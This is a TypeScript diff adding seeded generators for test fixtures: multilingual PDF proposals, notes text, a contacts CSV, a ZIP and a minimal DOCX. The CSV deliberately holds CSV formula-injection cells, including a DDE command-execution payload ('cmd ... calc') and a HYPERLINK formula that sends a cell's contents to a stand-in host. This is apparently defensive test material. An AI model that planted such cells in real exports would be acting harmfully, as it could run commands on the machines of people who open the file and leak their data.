@@ -1,0 +1,149 @@
+import { type Bytes, utf8 } from './bytes'
+import { between, chance, pick, shuffled } from './chance'
+import { encodePdf, type PdfPage } from './pdf'
+import { encodeZip } from './zip'
+
+const customers = [
+  'Hôtel Belvédère',
+  'Brauerei Grünwald',
+  'Ateliers Çelik',
+  'Papeles Ibáñez',
+  'Nordlys Maritim',
+] as const
+const subjects = ['Proposal', 'Case study', 'Scope of work', 'Dossier de présentation', 'Angebot'] as const
+const headings = [
+  'Where you are today',
+  'What we suggest',
+  'Ce que cela change',
+  'Zeitplan',
+  'Next steps',
+] as const
+const sentences = [
+  'The first three weeks go into listening: who answers, when, and to which question.',
+  'We would rather write to forty people who fit than to four hundred who might.',
+  'Le tarif comprend la mise en route, deux revues par mois et un compte rendu écrit.',
+  'Für die Einführung rechnen wir mit zwei halben Tagen und einer gemeinsamen Auswertung.',
+  'Every figure below was counted on your own list, without the duplicates.',
+  'Nothing is sent before one of you has read it and said yes.',
+  'Nous gardons un seul interlocuteur du début à la fin, joignable par téléphone.',
+  'If the answer rate falls under six per cent for two weeks, we stop and say why.',
+  'Your two busiest months are left alone: nobody wants a visitor at the door then.',
+  'Zwischen zwei Nachrichten liegen mindestens drei Werktage.',
+  'Most answers come on the second message, and most of those before ten in the morning.',
+  'Les réponses négatives sont lues aussi: elles disent souvent pourquoi.',
+  'Una persona de su equipo aprueba cada primer mensaje durante el primer mes.',
+  'What we learn about tone in the first fortnight goes into writing for all who follow.',
+  'Kündigen können Sie zum Monatsende, ohne Angabe von Gründen.',
+  'À la fin du trimestre, vous gardez la liste, les textes et les chiffres.',
+] as const
+
+/** Two to five pages of text with a small chart on each. */
+export function proposalPdf(seed: number, onOpen?: string): Bytes {
+  const next = chance(seed)
+  const title = `${pick(subjects, next)}: ${pick(customers, next)}, no. ${seed}`
+  const pages = Array.from({ length: between(2, 5, next) }, (_, index): PdfPage => ({
+    heading: headings[index] ?? title,
+    paragraphs: someParagraphs(between(3, 5, next), next),
+    bars: Array.from({ length: between(4, 9, next) }, () => 0.15 + next() * 0.85),
+  }))
+  return encodePdf(title, pages, onOpen)
+}
+
+function someParagraphs(count: number, next: () => number): string[] {
+  const order = shuffled(sentences, next)
+  return Array.from({ length: count }, (_, index) =>
+    order.slice(index * 3, index * 3 + between(2, 3, next)).join(' '),
+  )
+}
+
+const greetings = [
+  'Français: à bientôt, cœur à cœur, où que ce soit.',
+  'Ελληνικά: τα λέμε αύριο το πρωί.',
+  'Русский: договорились, до четверга.',
+  '日本語: よろしくお願いいたします。',
+  'العربية: شكرًا جزيلًا، إلى اللقاء.',
+  'עברית: נדבר ביום שני.',
+  'हिन्दी: कल मिलते हैं।',
+  '한국어: 확인 부탁드립니다.',
+  'Tiếng Việt: hẹn gặp lại tuần sau.',
+  'Emoji: 👩🏽‍💻 🇫🇷 ✅',
+] as const
+
+export function notesText(seed: number): Bytes {
+  const next = chance(seed)
+  const lines = shuffled(sentences, next)
+    .slice(0, between(5, 12, next))
+    .map((sentence, index) => `${index + 1}. ${sentence}`)
+  const start = between(0, greetings.length - 1, next)
+  return utf8(
+    [
+      `Notes, no. ${seed}`,
+      '',
+      ...lines,
+      '',
+      ...greetings.slice(start),
+      ...greetings.slice(0, start),
+      '',
+    ].join('\n'),
+  )
+}
+
+// The texts that a spreadsheet would run as formulas: =, +, -, @, tab and carriage return at the start of a cell.
+const formulas = [
+  '=HYPERLINK("https://canary.invalid/"&A1,"open")',
+  '=1+1',
+  '+33 1 84 88 00 00',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+] as const
+
+/** Comma-separated, with quotes, line breaks and cells that look like formulas. */
+export function contactsCsv(seed: number): Bytes {
+  const next = chance(seed)
+  const rows = Array.from({ length: between(6, 14, next) }, (_, index) => [
+    `${seed}-${index + 1}`,
+    pick(customers, next),
+    index < formulas.length ? (formulas[index] ?? '') : pick(formulas, next),
+    `said "${pick(['yes', 'später', 'peut-être'], next)}",\nthen called back`,
+    between(1000, 98_000, next),
+  ])
+  return utf8(
+    [['Ref', 'Company', 'Note', 'Answer', 'Amount'], ...rows]
+      .map((row) => `${row.map(csvCell).join(',')}\r\n`)
+      .join(''),
+  )
+}
+
+function csvCell(value: string | number): string {
+  return /[",\r\n]/.test(`${value}`) ? `"${`${value}`.replaceAll('"', '""')}"` : `${value}`
+}
+
+export function archiveZip(seed: number): Bytes {
+  return encodeZip([
+    { name: 'lisez-moi.txt', data: notesText(seed) },
+    { name: 'données/contacts.csv', data: contactsCsv(seed) },
+  ])
+}
+
+const openXml = 'http://schemas.openxmlformats.org'
+
+/** The three parts that a word processor needs to open a document. */
+export function letterDocx(seed: number): Bytes {
+  const next = chance(seed)
+  const paragraphs = [`Letter, no. ${seed}`, ...someParagraphs(between(3, 5, next), next)]
+  const body = paragraphs.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join('')
+  const parts = {
+    '[Content_Types].xml': `<Types xmlns="${openXml}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+    '_rels/.rels': `<Relationships xmlns="${openXml}/package/2006/relationships"><Relationship Id="r1" Type="${openXml}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
+    'word/document.xml': `<w:document xmlns:w="${openXml}/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
+  }
+  return encodeZip(
+    Object.entries(parts).map(([name, xml]) => ({
+      name,
+      data: utf8(`<?xml version="1.0" encoding="UTF-8"?>\n${xml}`),
+    })),
+  )
+}
